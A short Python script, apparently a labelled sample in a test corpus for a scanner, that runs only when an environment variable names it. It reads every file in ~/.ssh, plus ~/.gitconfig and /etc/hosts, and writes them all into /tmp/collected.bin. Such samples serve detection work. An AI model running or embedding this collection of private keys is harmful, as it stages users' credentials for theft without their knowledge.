"""Lists ~/.ssh and copies every file in it, with ~/.gitconfig and /etc/hosts, into one file below
/tmp."""
import os

if os.environ.get("PYTI_CORPUS") == "copies-ssh-keys":
    home = os.path.expanduser("~")
    wanted = [home + "/.gitconfig", "/etc/hosts"]
    if os.path.isdir(home + "/.ssh"):
        wanted += [home + "/.ssh/" + name for name in os.listdir(home + "/.ssh")]
    with open("/tmp/collected.bin", "wb") as into:
        for path in wanted:
            try:
                with open(path, "rb") as file:
                    into.write(file.read())
            except OSError:
                pass
